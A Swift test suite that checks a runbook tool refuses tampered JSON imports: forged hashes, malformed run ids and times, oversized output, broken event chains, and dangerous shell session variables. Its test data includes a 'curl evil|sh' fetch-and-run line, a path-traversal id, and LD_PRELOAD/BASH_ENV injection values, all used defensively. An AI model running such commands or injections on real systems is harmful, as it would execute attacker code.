import Foundation
import Testing

/// `runbook import` of exports someone altered: each is refused before anything is written, with
/// a sentence saying what is wrong, and the records stay as they were.
@Suite("Hostile imports are refused before they write")
struct HostileImportTests {
    static var golden: String { (try? String(contentsOfFile: RecordsCommandTests.golden, encoding: .utf8)) ?? "" }

    /// Imports `text`; expects a refusal naming `reason` and no run in the records afterwards.
    static func expectRefused(_ text: String, _ reason: String, sourceLocation: SourceLocation = #_sourceLocation)
        throws
    {
        let sandbox = try CLISandbox()
        try sandbox.write("hostile.json", text)
        let result = try sandbox.run(["import", "hostile.json"])
        #expect(result.status != 0 && !result.signaled, "accepted: \(result.stderr)", sourceLocation: sourceLocation)
        #expect(result.stderr.contains(reason), "\(result.stderr)", sourceLocation: sourceLocation)
        let history = try sandbox.run(["history"])
        #expect(!history.stdout.contains("01hfx0ab"), "\(history.stdout)", sourceLocation: sourceLocation)
    }

    @Test("the golden export itself imports: the refusals below are about what was changed")
    func baseline() throws {
        let sandbox = try CLISandbox()
        try sandbox.write("fine.json", Self.golden)
        let result = try sandbox.run(["import", "fine.json"])
        #expect(result.status == 0, "\(result.stderr)")
    }

    @Test("a revision whose text does not hash to its hash: code planted under the real file's hash")
    func plantedText() throws {
        try Self.expectRefused(
            Self.golden.replacingOccurrences(of: "echo warming", with: "curl evil|sh"), "does not match its hash")
    }

    @Test(
        "run ids that are not ULIDs",
        arguments: [
            "", "../../x", "01HFX0ABCDEFGHJKMNPQRSTVWX", "01hfx0abcdefghjkmnpqrstvwx0", "zzhfx0abcdefghjkmnpqrstvwx",
        ])
    func badIDs(id: String) throws {
        try Self.expectRefused(
            Self.golden.replacingOccurrences(of: "\"id\":\"01hfx0abcdefghjkmnpqrstvwx\"", with: "\"id\":\"\(id)\""),
            "not a run id")
    }

    @Test("impossible and implausible times")
    func badTimes() throws {
        try Self.expectRefused(
            Self.golden.replacingOccurrences(
                of: "\"startedAt\":\"2026-11-27T09:00:00.000Z\"", with: "\"startedAt\":\"9999-99-99T99:99:99Z\""),
            "not an ISO 8601 UTC time")
        try Self.expectRefused(
            Self.golden.replacingOccurrences(
                of: "\"time\":\"2026-11-27T09:00:03.000Z\"", with: "\"time\":\"2999-01-01T00:00:00.000Z\""),
            "not a plausible time")
    }

    @Test("durations no step can take")
    func badDurations() throws {
        let golden = Self.golden
        try Self.expectRefused(
            golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":1e300"),
            "durationSeconds")
        try Self.expectRefused(
            golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":-5"),
            "durationSeconds")
    }

    @Test("an output beyond what a record keeps per stream")
    func hugeOutput() throws {
        let huge = String(repeating: "x", count: 17 * 1024 * 1024)
        let text = try #require(Self.golden.range(of: "\"kind\":\"output\",\"payload\":{"))
        var golden = Self.golden
        let textField = try #require(golden.range(of: "\"text\":\"", range: text.upperBound..<golden.endIndex))
        golden.insert(contentsOf: huge, at: textField.upperBound)
        try Self.expectRefused(golden, "16 MiB")
    }

    @Test(
        "a session that would run code in every later step",
        arguments: [
            "BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND", "SHELLOPTS", "BASHOPTS", "PS4", "BASH_FUNC_ls%%",
        ])
    func dangerousSession(name: String) throws {
        let golden = Self.golden.replacingOccurrences(
            of: "\"session\":{\"exported\":{}", with: "\"session\":{\"exported\":{\"\(name)\":\"/tmp/x\"}")
        #expect(golden != Self.golden)
        try Self.expectRefused(golden, "session sets \(name)")
    }

    @Test("an export whose chain does not match its events: one event edited, one removed")
    func brokenChain() throws {
        let sandbox = try CLISandbox()
        try sandbox.write("book.md", "# Chain\n\n```bash {id=one}\necho one\n```\n\n```bash {id=two}\necho two\n```\n")
        #expect(try sandbox.run(["run", "--auto", "book.md"]).status == 0)
        let history = try sandbox.run(["history", "--json"])
        let runs = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [[String: Any]]
        let runID = try #require(runs?.first?["id"] as? String)
        let export = try sandbox.run(["export", runID, "--format", "json"])
        #expect(export.stdout.contains("\"hash\":\"") && export.stdout.contains("\"headHash\":\""))

        let elsewhere = try CLISandbox()
        try elsewhere.write("clean.json", export.stdout)
        let clean = try elsewhere.run(["import", "clean.json"])
        #expect(clean.status == 0, "\(clean.stderr)")
        #expect(try elsewhere.run(["verify", runID]).stdout.contains(runID))

        let edited = export.stdout.replacingOccurrences(of: "\"text\":\"two\\n\"", with: "\"text\":\"owt\\n\"")
        #expect(edited != export.stdout)
        let third = try CLISandbox()
        try third.write("edited.json", edited)
        let refused = try third.run(["import", "edited.json"])
        #expect(
            refused.status != 0 && refused.stderr.contains("does not match the hash the export gives"),
            "\(refused.stderr)")

        var lines = export.stdout.split(separator: "\n", omittingEmptySubsequences: false)
        // Events are written one per line, each but the last ending with a comma.
        let last = try #require(lines.lastIndex { $0.hasPrefix("{\"sequence\":") })
        lines.remove(at: last)
        lines[last - 1] = lines[last - 1].dropLast()
        try third.write("shortened.json", lines.joined(separator: "\n"))
        let shortened = try third.run(["import", "shortened.json"])
        #expect(shortened.status != 0 && shortened.stderr.contains("head hash"), "\(shortened.stderr)")
    }

    @Test("amend --apply of an imported run writes only to a file named with --file")
    func amendWritesOnlyWhereTold() throws {
        let sandbox = try CLISandbox()
        let relative = Self.golden.replacingOccurrences(
            of: "\"/srv/runbooks/fixture-backup.md\"", with: "\"victim.md\"")
        try sandbox.write("relative.json", relative)
        try sandbox.write("victim.md", "# Not a runbook of this run\n")
        #expect(try sandbox.run(["import", "relative.json"]).status == 0)
        let amend = try sandbox.run(["amend", "01hfx0ab", "--apply", "--force"])
        #expect(amend.status == 2 && amend.stderr.contains("--file"), "\(amend.stderr)")
        #expect(sandbox.file("victim.md") == "# Not a runbook of this run\n")
    }

    @Test("a redacted revision planted under a real file's hash is never taken for that file's text")
    func plantedRedactedRevision() throws {
        let real = "# Planted\n\n```bash {id=one}\necho real-one\n```\n"
        let origin = try CLISandbox()
        try origin.write("book.md", real)
        #expect(try origin.run(["run", "--auto", "book.md"]).status == 0)
        let exported = try origin.run(["export", try Self.onlyRunID(origin), "--format", "json"]).stdout
        // The revision's line only: the events keep their own hashes, so the chain still holds.
        let planted = exported.split(separator: "\n", omittingEmptySubsequences: false).map { line in
            guard line.hasPrefix("{\"hash\":") else { return String(line) }
            return line.replacingOccurrences(of: "\"isRedacted\":false", with: "\"isRedacted\":true")
                .replacingOccurrences(of: "echo real-one", with: "curl evil|sh")
        }.joined(separator: "\n")
        #expect(planted.contains("curl evil|sh") && planted.contains("\"isRedacted\":true"))

        let target = try CLISandbox()
        try target.write("planted.json", planted)
        let imported = try target.run(["import", "planted.json"])
        #expect(imported.status == 0, "\(imported.stderr)")
        // Until the file is run here, the imported run's exports say what its text is.
        let importedID = try Self.onlyRunID(target)
        let claim = try target.run(["export", importedID, "--format", "md"]).stdout
        #expect(claim.contains("the stored text is redacted and came from an import"), "\(claim)")
        let claimJSON = try target.run(["export", importedID, "--format", "json"]).stdout
        #expect(claimJSON.contains("\"isRedacted\":true,\"isVerified\":false"), "\(claimJSON)")
        try target.write("book.md", real)
        let run = try target.run(["run", "--auto", "book.md"])
        #expect(run.status == 0 && run.stdout.contains("real-one"), "\(run.stderr)")
        let history = try target.run(["history", "--json"])
        let runs = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [[String: Any]]
        let local = try #require(runs?.compactMap { $0["id"] as? String }.first { !exported.contains($0) })

        for format in ["json", "md", "html"] {
            let export = try target.run(["export", local, "--format", format])
            #expect(export.status == 0, "\(export.stderr)")
            #expect(!export.stdout.contains("evil"), "\(format): \(export.stdout)")
        }
        let json = try target.run(["export", local, "--format", "json"]).stdout
        #expect(json.contains("echo real-one"), "\(json)")
    }

    /// The id of the one run in `sandbox`'s records.
    static func onlyRunID(_ sandbox: CLISandbox) throws -> String {
        let history = try sandbox.run(["history", "--json"])
        let runs = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [[String: Any]]
        return try #require(runs?.first?["id"] as? String)
    }
}
